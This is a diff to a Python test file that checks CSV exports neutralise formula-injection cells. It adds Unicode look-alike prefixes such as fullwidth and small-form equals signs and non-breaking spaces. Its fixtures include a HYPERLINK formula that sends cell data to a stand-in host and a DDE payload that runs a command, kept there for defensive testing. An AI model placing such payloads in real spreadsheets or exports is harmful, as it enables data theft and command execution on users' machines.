@@ -51,7 +51,8 @@ FENCE_BREAK = "```\n# escaped the block\n```"
 TILDE_FENCE = "~~~\nx\n~~~"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 CSV_FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1",
-                "\uff1d1+1", "=cmd|' /C calc'!A0", FORMULA]
+                "\uff1d1+1", "=cmd|' /C calc'!A0", FORMULA,
+                "\ufe661+1", "\ufe621", "\ufe63 1", "\ufe6bSUM(A1)", "\u3000=1+1", "\u00a0+1"]
 HUGE = "A" * 10_000_000
 HUGE_ESC = "\x1b[31m" * 2_000_000
 HUGE_NL = "\n" * 3_000_000 + "end"
@@ -217,7 +218,7 @@ def test_csv_formula_cells_are_neutralised(s):
     (row,) = list(csv.reader(io.StringIO(buf.getvalue())))
     cell = row[1]
     assert cell.startswith("'"), cell
-    assert cell.lstrip(" ")[:1] not in tuple("=+-@\t\r\uff1d")
+    assert cell.lstrip(" ")[:1] not in tuple("=+-@\t\r\uff1d\ufe66\u3000\u00a0")
     assert _bad_chars(cell, newlines=False) == []
 
 
